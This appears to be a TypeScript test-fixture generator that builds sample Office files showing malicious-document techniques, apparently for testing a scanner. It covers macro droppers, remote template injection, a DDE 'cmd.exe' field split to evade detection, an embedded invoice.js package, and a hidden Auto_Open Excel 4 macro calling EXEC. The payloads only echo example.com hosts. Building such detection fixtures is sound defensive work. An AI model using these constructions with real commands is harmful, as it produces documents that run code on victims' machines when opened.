import { type ZipEntry, zip } from '../../archives/zip-bytes.ts';
import { makeCompound } from './make-compound.ts';
import { makeNative } from './make-native.ts';
import { dropperSource, type SampleModule, vbaStreams } from './make-vba.ts';

/** Documents since Office 2007 with as few parts as readers need. */

const relationshipBase = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const wordSpace = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

export interface SampleRelationship {
  readonly type: string;
  readonly target: string;
  readonly isExternal?: boolean;
}

function relationships(list: readonly SampleRelationship[]): string {
  const rows = list.map(
    ({ type, target, isExternal }, index) =>
      `<Relationship Id="rId${index + 1}" Type="${type.includes(':') ? type : `${relationshipBase}/${type}`}" Target="${target}"${isExternal ? ' TargetMode="External"' : ''}/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`;
}

const core =
  '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>Sample &amp; title</dc:title><dc:creator>Sample Author</dc:creator><cp:lastModifiedBy>Second Author</cp:lastModifiedBy><dcterms:created xsi:type="dcterms:W3CDTF">2024-05-06T07:08:09Z</dcterms:created></cp:coreProperties>';

function contentTypes(main: string, type: string, hasMacros: boolean): string {
  return `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${hasMacros ? '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : ''}<Override PartName="/${main}" ContentType="${type}"/></Types>`;
}

export interface WordOptions {
  readonly body?: string;
  readonly relationships?: readonly SampleRelationship[];
  readonly settings?: readonly SampleRelationship[];
  readonly parts?: readonly ZipEntry[];
  readonly modules?: readonly SampleModule[];
}

export function makeDocx(options: WordOptions = {}): Buffer {
  const hasMacros = options.modules !== undefined;
  const type = hasMacros
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
  const links = [
    ...(options.relationships ?? []),
    ...(options.settings === undefined ? [] : [{ type: 'settings', target: 'settings.xml' }]),
    ...(hasMacros
      ? [{ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' }]
      : []),
  ];
  return zip([
    { name: '[Content_Types].xml', content: contentTypes('word/document.xml', type, hasMacros) },
    {
      name: '_rels/.rels',
      content: relationships([
        { type: 'officeDocument', target: 'word/document.xml' },
        {
          type: 'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
          target: 'docProps/core.xml',
        },
      ]),
    },
    { name: 'docProps/core.xml', content: core },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?><w:document xmlns:w="${wordSpace}"><w:body>${options.body ?? '<w:p><w:r><w:t>Hello</w:t></w:r></w:p>'}</w:body></w:document>`,
    },
    { name: 'word/_rels/document.xml.rels', content: relationships(links) },
    ...(options.settings === undefined
      ? []
      : [
          { name: 'word/settings.xml', content: `<?xml version="1.0"?><w:settings xmlns:w="${wordSpace}"/>` },
          { name: 'word/_rels/settings.xml.rels', content: relationships(options.settings) },
        ]),
    ...(options.modules === undefined
      ? []
      : [{ name: 'word/vbaProject.bin', content: makeCompound(vbaStreams(options.modules)) }]),
    ...(options.parts ?? []),
  ]);
}

export function makeDocm(source: string = dropperSource): Buffer {
  return makeDocx({
    modules: [
      { name: 'ThisDocument', source: '', isDocument: true },
      { name: 'Module1', source },
    ],
  });
}

export function makeTemplateInjection(target = 'http://template.example.com/a.dotm'): Buffer {
  return makeDocx({ settings: [{ type: 'attachedTemplate', target, isExternal: true }] });
}

const run = (inner: string): string => `<w:r>${inner}</w:r>`;

/** The instruction is cut into runs, as it is to hide it. */
export function makeDdeDocx(): Buffer {
  const pieces = ['DDE', 'AUTO c:\\\\windows\\\\system32\\\\', 'cmd.exe "/k echo dde.example.com"'];
  const texts = pieces.map((piece) => run(`<w:instrText xml:space="preserve">${piece}</w:instrText>`));
  return makeDocx({
    body: `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${texts.join('')}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>x</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`,
  });
}

/** A package, an ActiveX control, a ribbon with a callback and links of several kinds. */
export function makeLadenDocx(): Buffer {
  const packed = makeCompound({
    '\u0001Ole10Native': makeNative('invoice.js', 'C:\\Users\\sample\\invoice.js', 'WScript.Echo("sample");'),
  });
  return makeDocx({
    relationships: [
      { type: 'oleObject', target: 'embeddings/oleObject1.bin' },
      {
        type: 'oleObject',
        target: 'mhtml:http://object.example.com/a.html!x-usc:http://object.example.com/a.html',
        isExternal: true,
      },
      { type: 'image', target: 'file://share.example.com/a.png', isExternal: true },
      { type: 'hyperlink', target: 'https://link.example.com/', isExternal: true },
    ],
    parts: [
      { name: 'word/embeddings/oleObject1.bin', content: packed },
      {
        name: 'customUI/customUI.xml',
        content: '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="RibbonLoaded"/>',
      },
      {
        name: 'word/activeX/activeX1.xml',
        content:
          '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8856F961-340A-11D0-A96B-00C04FD705A2}"/>',
      },
    ],
  });
}

const sheetSpace = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** Macros of Excel 4 on a sheet that nobody sees, and a link to a program. */
export function makeXlmWorkbook(): Buffer {
  const macroType = 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet';
  return zip([
    {
      name: '[Content_Types].xml',
      content: contentTypes('xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml', false),
    },
    { name: '_rels/.rels', content: relationships([{ type: 'officeDocument', target: 'xl/workbook.xml' }]) },
    {
      name: 'xl/workbook.xml',
      content: `<workbook xmlns="${sheetSpace}" xmlns:r="${relationshipBase}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relationships([
        { type: 'worksheet', target: 'worksheets/sheet1.xml' },
        { type: macroType, target: 'macrosheets/sheet1.xml' },
      ]),
    },
    { name: 'xl/worksheets/sheet1.xml', content: `<worksheet xmlns="${sheetSpace}"><sheetData/></worksheet>` },
    {
      name: 'xl/macrosheets/sheet1.xml',
      content: `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="${sheetSpace}"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd.exe /c echo "&amp;CHAR(120)&amp;CHAR(108)&amp;"m.example.com")</f><v>0</v></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: `<externalLink xmlns="${sheetSpace}"><ddeLink ddeService="cmd" ddeTopic="/c echo link.example.com"/></externalLink>`,
    },
  ]);
}
